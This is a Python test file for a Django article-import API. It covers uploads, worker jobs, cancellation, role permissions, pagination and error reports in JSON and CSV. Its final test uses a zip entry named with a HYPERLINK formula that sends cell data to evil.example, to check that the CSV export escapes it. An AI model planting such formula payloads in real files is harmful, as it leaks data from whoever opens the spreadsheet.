"""/api/v1/imports/: start, watch, read errors, cancel; roles. Jobs run on a real worker."""

import csv
import io
import json
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from annotations.models import Article, AuditEvent, ImportJob
from annotations.services import start_import

Status = ImportJob.Status
URL = "/api/v1/imports/"


def upload(content: bytes, name: str = "day.jsonl") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def lines(n: int, start: int = 0) -> bytes:
    return "\n".join(
        json.dumps({"title": f"T{i}", "body": f"Story {i} says the rate rose. It fell."})
        for i in range(start, start + n)
    ).encode()


def wait_for(job_id: int, *, timeout: float = 60) -> ImportJob:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        job = ImportJob.objects.get(pk=job_id)
        if job.is_finished:
            return job
        time.sleep(0.1)
    raise AssertionError(f"job {job_id} still {job.status}")


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_upload_answers_202_with_location_and_the_worker_imports(celery_worker, client_for):
    from tests.factories import UserFactory

    reviewer = UserFactory(username="rita-reviewer", roles=["Reviewer"])
    response = client_for(reviewer).post(
        URL, {"file": upload(lines(3) + b"\n{broken")}, format="multipart"
    )
    assert response.status_code == 202, response.content
    job_id = response.json()["id"]
    assert response["Location"].endswith(f"{URL}{job_id}/")
    assert response.json()["status"] == "queued"
    job = wait_for(job_id)
    assert (job.status, job.created, job.failed) == (Status.PARTIAL, 3, 1)
    detail = client_for(reviewer).get(response["Location"]).json()
    assert {k: detail[k] for k in ("status", "format", "total", "created", "duplicates")} == {
        "status": "partial",
        "format": "jsonl",
        "total": 4,
        "created": 3,
        "duplicates": 0,
    }
    assert detail["errors"] == [{"line": 4, "message": detail["errors"][0]["message"]}]
    assert detail["started_at"] and detail["finished_at"]
    assert detail["heartbeat_at"] >= detail["started_at"]  # the worker's last sign of life
    assert AuditEvent.objects.filter(action="import.started", object_id=job_id).exists()


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_running_job_is_cancelled_at_the_next_batch(celery_worker, client_for, settings):
    from tests.factories import UserFactory

    settings.IMPORT_BATCH_SIZE = 1
    editor = UserFactory(username="edna-editor", roles=["Editor"])
    response = client_for(editor).post(URL, {"file": upload(lines(3000))}, format="multipart")
    job_id = response.json()["id"]
    # Cancel once the job is under way: a loop that gave up silently cancelled a queued job
    # (nothing imported) on a slow machine, and the test failed far from the cause.
    deadline = time.monotonic() + 60
    while ImportJob.objects.get(pk=job_id).created == 0:
        assert time.monotonic() < deadline, "the worker never started the job"
        time.sleep(0.05)
    cancelled = client_for(editor).post(f"{URL}{job_id}/cancel/")
    # 202, not 400: the job was still running (3,000 one-record batches take far longer).
    assert cancelled.status_code == 202, cancelled.content
    job = wait_for(job_id)
    assert job.status == Status.CANCELLED
    assert 0 < job.created < 3000
    assert Article.objects.count() == job.created  # whole batches only
    assert client_for(editor).post(f"{URL}{job_id}/cancel/").status_code == 400


def test_json_urls_create_a_url_job(client_for, reviewer):
    response = client_for(reviewer).post(URL, {"urls": ["https://a.example/1"]}, format="json")
    assert response.status_code == 202
    job = ImportJob.objects.get(pk=response.json()["id"])
    assert (job.format, job.urls, job.total) == ("urls", ["https://a.example/1"], 1)


@pytest.mark.parametrize(
    "payload",
    [{}, {"urls": []}, {"urls": ["ftp://x.example/"]}, {"feed": "not a url"}, {"format": "doc"}],
)
def test_bad_requests_are_400_with_a_message(client_for, reviewer, payload):
    response = client_for(reviewer).post(URL, payload, format="json")
    assert response.status_code == 400
    assert response.json()
    assert not ImportJob.objects.exists()


def test_too_large_upload_is_413(client_for, reviewer, settings):
    settings.IMPORT_MAX_UPLOAD_BYTES = 1000
    response = client_for(reviewer).post(URL, {"file": upload(lines(100))}, format="multipart")
    assert response.status_code == 413
    assert "larger than" in response.json()["detail"]
    assert not ImportJob.objects.exists()


@pytest.mark.parametrize(
    ("who", "status"),
    [(None, 403), ("outsider", 403), ("moderator", 403), ("reviewer", 202), ("editor", 202)],
)
def test_who_may_import(db, client_for, request, who, status):
    user = request.getfixturevalue(who) if who else None
    response = client_for(user).post(URL, {"file": upload(lines(1))}, format="multipart")
    assert response.status_code in ((401, 403) if status == 403 else (status,))
    assert ImportJob.objects.exists() is (status == 202)


def test_reviewers_see_their_own_jobs_and_editors_all(client_for, reviewer, other_reviewer, editor):
    mine = start_import(created_by=reviewer, urls=["https://a.example/1"])
    theirs = start_import(created_by=other_reviewer, urls=["https://a.example/2"])
    seen = client_for(reviewer).get(URL).json()["results"]
    assert [j["id"] for j in seen] == [mine.pk]
    assert client_for(reviewer).get(f"{URL}{theirs.pk}/").status_code == 404
    everyone = client_for(editor).get(URL).json()["results"]
    assert {j["id"] for j in everyone} == {mine.pk, theirs.pk}


def test_the_list_comes_in_pages_newest_first(client_for, reviewer):
    jobs = [start_import(created_by=reviewer, urls=[f"https://a.example/{n}"]) for n in range(5)]
    client = client_for(reviewer)
    first = client.get(URL, {"page_size": 3}).json()
    second = client.get(first["next"]).json()
    assert [j["id"] for j in first["results"] + second["results"]] == [j.pk for j in jobs[::-1]]
    assert second["next"] is None


def test_list_is_a_fixed_number_of_queries(client_for, editor, django_assert_max_num_queries):
    for n in range(20):
        start_import(created_by=editor, urls=[f"https://a.example/{n}"])
    with django_assert_max_num_queries(6):
        assert client_for(editor).get(URL).status_code == 200


def test_errors_report_as_json_and_csv(client_for, reviewer):
    job = start_import(created_by=reviewer, urls=["https://a.example/1"])
    errors = [
        {"line": 2, "message": "Malformed JSON: Expecting value at column 1."},
        {"file": "b.zip", "line": 3, "message": 'Missing "body", "text"'},
    ]
    ImportJob.objects.filter(pk=job.pk).update(errors=errors)
    client = client_for(reviewer)
    assert client.get(f"{URL}{job.pk}/errors/").json() == errors
    response = client.get(f"{URL}{job.pk}/errors/?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[1] == {"file": "b.zip", "line": "3", "record": "", "message": errors[1]["message"]}
    assert client.get(f"{URL}{job.pk}/errors/", HTTP_ACCEPT="text/csv").content == response.content


def test_queued_job_can_be_cancelled_and_the_worker_leaves_it(client_for, reviewer):
    from annotations.importing.run import run_import

    job = start_import(created_by=reviewer, urls=["https://a.example/1"])
    response = client_for(reviewer).post(f"{URL}{job.pk}/cancel/")
    assert (response.status_code, response.json()["status"]) == (202, "cancelled")
    assert run_import(job.pk).status == Status.CANCELLED
    assert AuditEvent.objects.filter(action="import.cancelled", object_id=job.pk).exists()


def test_errors_csv_escapes_formula_cells_from_the_upload(client_for, reviewer):
    from django.core.files.base import ContentFile

    from annotations.importing.run import run_import

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr('=HYPERLINK("https://evil.example/?"&A1,"Open").txt', b"")
        archive.writestr("ok.txt", b"Headline\nThe body of a good story.")
    job = start_import(created_by=reviewer, upload=ContentFile(buffer.getvalue(), name="d.zip"))
    run_import(job.pk)
    [error] = ImportJob.objects.get(pk=job.pk).errors
    assert error["file"].startswith("=HYPERLINK")  # the JSON report keeps the name as it was

    response = client_for(reviewer).get(f"{URL}{job.pk}/errors/?format=csv")

    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["file"] == "'" + error["file"]
    assert row["message"] == error["message"]
